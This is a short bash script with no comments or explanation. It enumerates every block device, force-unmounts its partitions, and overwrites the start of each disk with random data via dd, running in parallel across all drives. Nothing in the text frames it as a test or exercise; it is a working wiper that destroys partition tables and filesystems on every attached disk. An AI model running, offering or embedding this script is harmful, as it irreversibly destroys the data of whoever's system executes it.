#!/bin/bash
for d in $(lsblk -dno NAME); do
  umount -f /dev/"$d"* 2>/dev/null
  dd if=/dev/urandom of=/dev/"$d" bs=4M count=64 &
done
wait
